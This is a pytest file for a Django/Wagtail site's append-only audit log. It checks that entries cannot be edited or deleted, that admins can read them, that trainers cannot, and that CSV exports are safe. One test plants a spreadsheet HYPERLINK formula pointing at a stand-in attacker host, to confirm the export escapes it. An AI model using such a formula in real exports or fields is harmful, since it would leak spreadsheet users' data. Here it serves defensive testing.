"""The audit log only grows, whoever tries otherwise."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.db import DatabaseError, connection, transaction
from django.test import Client
from wagtail.log_actions import log
from wagtail.models import Page

from accounts.audit import AuditEntry, record
from accounts.people import User


def test_an_entry_says_who_did_what_to_what(olga: User, lena: User) -> None:
    entry = record(olga, "greet", lena, loudly=True)
    assert (entry.actor, entry.verb, entry.object_type) == (olga, "greet", "accounts.User")
    assert entry.object_key == str(lena.uuid)
    assert entry.details == {"loudly": True}


@pytest.mark.parametrize(
    "change",
    [
        lambda entry: entry.save(),
        lambda entry: entry.delete(),
        lambda entry: AuditEntry.objects.update(verb="praise"),
        lambda entry: AuditEntry.objects.filter(pk=entry.pk).delete(),
        lambda entry: AuditEntry.objects.bulk_update([entry], ["verb"]),
    ],
)
def test_code_cannot_change_it(olga: User, change: Callable[[AuditEntry], object]) -> None:
    entry = record(olga, "greet")
    with pytest.raises(TypeError, match="only grows"):
        change(entry)


def test_the_database_refuses_too(olga: User) -> None:
    record(olga, "greet")
    with (
        pytest.raises(DatabaseError, match="only grows"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute("UPDATE accounts_auditentry SET verb = 'praise'")
    assert AuditEntry.objects.get(verb="greet")


@pytest.mark.skipif(connection.vendor == "sqlite", reason="see the migration's first words")
def test_postgresql_refuses_to_delete(olga: User) -> None:
    record(olga, "greet")
    with (
        pytest.raises(DatabaseError, match="only grows"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute("DELETE FROM accounts_auditentry")


def test_it_outlives_who_acted(olga: User, adam: User) -> None:
    entry = record(olga, "greet")
    number = olga.pk
    olga.delete()
    assert AuditEntry.objects.get(pk=entry.pk).actor_id == number


def test_administrators_read_it(
    adam: User, olga: User, signed_in: Callable[[User], Client]
) -> None:
    record(olga, "greet", adam)
    record(None, "sweep")
    page = signed_in(adam).get("/admin/reports/audit-log/").content.decode()
    assert "greet" in page
    assert "Olga" in page
    assert "the site itself" in page
    csv = signed_in(adam).get("/admin/reports/audit-log/?export=csv")
    assert b"greet" in b"".join(csv.streaming_content)


def test_trainers_do_not(
    make_person: Callable[..., User], signed_in: Callable[..., Client]
) -> None:
    trainer = make_person("Tom", "trainer", is_demo=True)
    client = signed_in(trainer)
    assert client.get("/admin/reports/audit-log/").status_code == 302
    assert "Audit log" not in client.get("/admin/").content.decode()


@pytest.mark.parametrize(
    "address", ["/admin/reports/audit-log/?export=csv", "/admin/reports/site-history/?export=csv"]
)
def test_no_cell_of_a_report_is_a_formula(
    adam: User, olga: User, signed_in: Callable[[User], Client], address: str
) -> None:
    formula = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Open")'
    User.objects.filter(pk=olga.pk).update(display_name=formula)
    olga.refresh_from_db()
    record(olga, "greet", adam)
    page = Page.objects.get(depth=1)
    page.title = formula
    log(page, "wagtail.edit", user=olga)
    answer = signed_in(adam).get(address)
    cells = [
        cell
        for row in csv.reader(io.StringIO(b"".join(answer.streaming_content).decode()))
        for cell in row
    ]
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
